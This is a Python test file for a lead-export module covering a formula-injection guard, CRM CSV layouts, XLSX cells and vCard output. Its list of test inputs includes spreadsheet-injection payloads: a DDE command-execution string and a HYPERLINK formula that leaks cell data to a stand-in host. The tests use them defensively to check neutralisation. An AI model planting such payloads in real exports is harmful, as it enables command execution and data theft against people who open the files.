"""The export writers on their own: formula guard, CSV layouts, XLSX cells, vCard round trip."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import vobject

from app.exporters.csv_layouts import HUBSPOT_CONTACTS, SALESFORCE_LEADS, native_layout, write_csv
from app.exporters.spreadsheet_safety import looks_like_phone, neutralise, safe_value
from app.exporters.vcard_writer import write_vcards
from app.exporters.xlsx_writer import write_xlsx

ATTACKS = ["=cmd|'/C calc'!A0", "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
           "=HYPERLINK(\"http://evil.example/?\"&A1)"]
NAMES = [("Łukasz", "Wałęsa"), ("Ayşe", "Şahin"), ("Ωmega", "Παπαδόπουλος"),
         ("Яна", "Смирнова"), ("王", "小明"), ("Comma, Semi;", "Back\\slash")]


@pytest.mark.parametrize("attack", ATTACKS)
def test_guard_prefixes_an_apostrophe(attack: str) -> None:
    assert neutralise(attack) == "'" + attack
    assert neutralise(attack, phone=True) == "'" + attack, "not a phone, even in a phone column"


def test_guard_keeps_phone_numbers_usable() -> None:
    for phone in ("+49 30 1234", "+49301234567", "+1 (555) 012-3456", "+44 20.7946/0958"):
        assert looks_like_phone(phone)
        assert neutralise(phone, phone=True) == phone
        assert neutralise(phone) == "'" + phone, "outside a phone column OWASP's rule holds"
    for not_phone in ("+SUM()", "+1", "+49 30 12a4", "+4930+1234", "-49 30 1234"):
        assert neutralise(not_phone, phone=True).startswith("'")
    assert neutralise("Anna") == "Anna" and neutralise("") == ""
    assert neutralise("a=b") == "a=b", "only the first character matters"
    assert safe_value(-5) == -5 and safe_value(None) is None and safe_value(True) is True


def _lead(**fields: Any) -> dict[str, Any]:
    base = {"id": "0190a1b2-0000-7000-8000-000000000001", "first_name": "Anna",
            "last_name": "Weber", "email": "anna@example.com", "company": "Acme",
            "phone": "+49 30 1234567", "phone_e164": "+49301234567", "country": "DE",
            "status": "mql", "rating": "hot", "channel": "trade_show"}
    return {**base, **fields}


def _read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_cells_are_neutralised_but_phones_kept() -> None:
    handle = io.StringIO()
    leads = [_lead(first_name=attack, notes=attack) for attack in ATTACKS]
    assert write_csv(handle, native_layout(("id", "first_name", "notes", "phone", "score")),
                     [*leads, _lead(phone="-2+3", score=-5)]) == len(ATTACKS) + 1
    rows = _read_csv(handle.getvalue())
    assert rows[0] == ["id", "first_name", "notes", "phone", "score"]
    for row, attack in zip(rows[1:], ATTACKS, strict=False):
        assert row[1] == row[2] == "'" + attack
        assert row[3] == "+49 30 1234567"
    assert rows[-1][3:] == ["'-2+3", "-5"], "a number is not text: -5 stays a number"


def test_crm_headers_are_exact() -> None:
    assert SALESFORCE_LEADS.header == [
        "FirstName", "LastName", "Company", "Title", "Email", "Phone", "MobilePhone", "Street",
        "City", "State", "PostalCode", "Country", "LeadSource", "Status", "Rating", "Industry",
        "Description"]
    assert HUBSPOT_CONTACTS.header == [
        "First Name", "Last Name", "Email", "Phone Number", "Mobile Phone Number", "Company Name",
        "Job Title", "Website URL", "Street Address", "City", "State/Region", "Postal Code",
        "Country/Region", "Industry", "Lead Status", "Lifecycle Stage"]


def test_crm_layouts_map_values() -> None:
    handle = io.StringIO()
    write_csv(handle, SALESFORCE_LEADS, [_lead(last_name="", company="", title="=1+1",
                                               notes="met at the booth", event="Messe")])
    sf = dict(zip(*_read_csv(handle.getvalue()), strict=True))
    assert sf["LastName"] == sf["Company"] == "[not provided]", "required by Salesforce"
    assert sf["Phone"] == "+49301234567" and sf["Country"] == "Germany"
    assert sf["Status"] == "Working - Contacted" and sf["Rating"] == "Hot"
    assert sf["Title"] == "'=1+1" and sf["Description"] == "Event: Messe\nmet at the booth"
    handle = io.StringIO()
    write_csv(handle, HUBSPOT_CONTACTS, [_lead(status="sql")])
    hs = dict(zip(*_read_csv(handle.getvalue()), strict=True))
    assert hs["Email"] == "anna@example.com" and hs["Phone Number"] == "+49301234567"
    assert hs["Lead Status"] == "In Progress" and hs["Lifecycle Stage"] == "Sales Qualified Lead"
    assert hs["Country/Region"] == "Germany"


def test_xlsx_header_text_cells_and_guard(tmp_path: Path) -> None:
    path = tmp_path / "leads.xlsx"
    leads = [_lead(first_name=attack) for attack in ATTACKS]
    leads.append(_lead(postal_code="01067", badge_id="000123", notes="bell\x07 rings",
                       score=42, owner_id="0190a1b2-0000-7000-8000-0000000000ff"))
    columns = ("id", "first_name", "phone", "phone_e164", "postal_code", "badge_id", "notes",
               "score", "owner_id")
    with open(path, "wb") as handle:
        assert write_xlsx(handle, native_layout(columns), leads) == len(leads)
    sheet = openpyxl.load_workbook(path).active
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == list(columns) and rows[0][0].font.b
    for row, attack in zip(rows[1:], ATTACKS, strict=False):
        # XML parsers read a bare CR as a line feed. A text cell is never evaluated: the text
        # stays as it was, and the quote prefix keeps it text when edited.
        assert row[1].value == attack.replace("\r", "\n") and row[1].data_type == "s"
        assert row[1].quotePrefix
    last = rows[-1]
    for cell in (last[0], last[2], last[3], last[8]):  # ids and phones
        assert cell.data_type == "s" and cell.number_format == "@"
    assert last[2].value == "+49 30 1234567" and last[2].quotePrefix
    assert last[4].value == "01067" and last[5].value == "000123", "leading zeros kept"
    assert last[6].value == "bell rings", "control characters Excel refuses are dropped"
    assert last[7].value == 42 and last[7].data_type == "n"
    assert 8 <= sheet.column_dimensions["A"].width <= 50


def test_xlsx_with_no_rows_has_the_header(tmp_path: Path) -> None:
    path = tmp_path / "empty.xlsx"
    with open(path, "wb") as handle:
        assert write_xlsx(handle, SALESFORCE_LEADS, []) == 0
    rows = list(openpyxl.load_workbook(path).active.values)
    assert rows == [tuple(SALESFORCE_LEADS.header)]


def test_vcard_round_trips_every_script(tmp_path: Path) -> None:
    leads = [_lead(id=f"0190a1b2-0000-7000-8000-00000000000{i}", first_name=first,
                   last_name=last, company="王 GmbH, Co; KG", title="Директор",
                   mobile="0171 1234567", mobile_e164="", street="Ulica Świętego 1",
                   city="Łódź", postal_code="90-001", country="PL",
                   notes="Line one\nline two " + "ş" * 120)
             for i, (first, last) in enumerate(NAMES)]
    leads.append({"id": "0190a1b2-0000-7000-8000-00000000000f", "email": "only@mail.example"})
    path = tmp_path / "leads.vcf"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        assert write_vcards(handle, leads) == len(NAMES) + 1
    raw = path.read_bytes()
    assert raw.count(b"BEGIN:VCARD") == len(NAMES) + 1 and b"\r\n" in raw
    assert all(len(line) <= 76 * 4 for line in raw.split(b"\r\n")), "long lines are folded"
    cards = list(vobject.readComponents(raw.decode("utf-8")))
    for card, (first, last) in zip(cards, NAMES, strict=False):
        assert card.version.value == "3.0"
        assert (card.n.value.given, card.n.value.family) == (first, last)
        assert card.fn.value == f"{first} {last}"
        assert card.org.value == ["王 GmbH, Co; KG"] and card.title.value == "Директор"
        assert card.email.value == "anna@example.com"
        phones = {t.type_param: t.value for t in card.contents["tel"]}
        assert phones == {"WORK": "+49301234567", "CELL": "0171 1234567"}
        assert card.adr.value.city == "Łódź" and card.adr.value.country == "Poland"
        assert card.note.value.startswith("Line one\nline two ş")
    assert cards[0].uid.value == "urn:uuid:0190a1b2-0000-7000-8000-000000000000"
    assert cards[-1].fn.value == "only@mail.example", "FN is required: something readable"
